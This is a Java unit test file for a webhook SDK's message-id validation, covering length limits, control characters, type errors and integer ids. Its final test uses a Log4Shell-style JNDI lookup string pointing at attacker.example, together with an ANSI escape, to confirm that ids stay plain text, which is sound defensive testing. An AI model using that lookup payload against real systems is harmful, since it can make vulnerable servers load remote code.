package dev.maigw.sdk.webhook;

import static dev.maigw.sdk.webhook.Rejections.READER;
import static dev.maigw.sdk.webhook.Rejections.assertRejected;
import static dev.maigw.sdk.webhook.WebhookFormatProblem.INVALID_FIELD;
import static dev.maigw.sdk.webhook.WebhookFormatProblem.INVALID_ID;
import static dev.maigw.sdk.webhook.WebhookFormatProblem.MISSING_FIELD;
import static org.assertj.core.api.Assertions.assertThat;

import java.math.BigInteger;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Message id rules: docs/reliability.md §c cases 11 and 41, and W8 (ids are opaque). */
class IdsTest {

  @Test
  void rejectsMissingId() {
    assertRejected(Replies.valid().without("id").bytes(), MISSING_FIELD, "Field 'id' is required.");
  }

  @Test
  void rejectsNullIdAsMissing() {
    assertRejected(
        Replies.valid().with("id", null).bytes(), MISSING_FIELD, "Field 'id' is required.");
  }

  @Test
  void rejectsEmptyId() {
    assertRejected(Replies.valid().with("id", "").bytes(), INVALID_ID, "Field 'id' is empty.");
  }

  @Test
  void rejectsBlankId() {
    assertRejected(Replies.valid().with("id", "  \t ").bytes(), INVALID_ID, "Field 'id' is blank.");
  }

  @Test
  void rejectsIdLongerThan256Characters() {
    assertRejected(
        Replies.valid().with("id", "a".repeat(257)).bytes(),
        INVALID_ID,
        "Field 'id' is longer than 256 characters.");
  }

  @Test
  void acceptsIdOfExactly256Characters() {
    assertThat(READER.read(Replies.valid().with("id", "a".repeat(256)).bytes()).id()).hasSize(256);
  }

  @Test
  void countsIdLengthInCharactersNotUtf16Units() {
    String emoji = "😀".repeat(256);

    assertThat(READER.read(Replies.valid().with("id", emoji).bytes()).id()).isEqualTo(emoji);
  }

  @ParameterizedTest
  @ValueSource(strings = {"a\nb", "a\rb", "\u001b[31mred", "a\u0000b", "a\u007fb", "a\tb"})
  void rejectsIdWithControlCharacter(String id) {
    assertRejected(
        Replies.valid().with("id", id).bytes(),
        INVALID_ID,
        "Field 'id' contains a control character.");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "{\"uuid\":\"a\"} | an object",
        "[\"a\"] | an array",
        "true | a boolean",
        "12.5 | a decimal number"
      })
  void rejectsIdOfImpossibleType(String raw, String type) {
    assertRejected(
        Replies.valid().withRaw("id", raw).bytes(),
        INVALID_FIELD,
        "Field 'id' must be a string or an integer, not " + type + ".");
  }

  @Test
  void readsIntegerIdAsItsDigits() {
    assertThat(READER.read(Replies.valid().with("id", 12345).bytes()).id()).isEqualTo("12345");
  }

  @Test
  void readsIntegerIdBeyondLongRangeAsItsDigits() {
    BigInteger big = new BigInteger("123456789012345678901234567890");

    assertThat(READER.read(Replies.valid().with("id", big).bytes()).id())
        .isEqualTo("123456789012345678901234567890");
  }

  @Test
  void acceptsIdThatIsNotAUuid() {
    assertThat(READER.read(Replies.valid().with("id", "msg123").bytes()).id()).isEqualTo("msg123");
  }

  @Test
  void keepsLookupLikeIdAsPlainText() {
    String id = "${jndi:ldap://attacker.example/a}";

    assertThat(READER.read(Replies.valid().with("id", id).bytes()).id()).isEqualTo(id);
  }
}
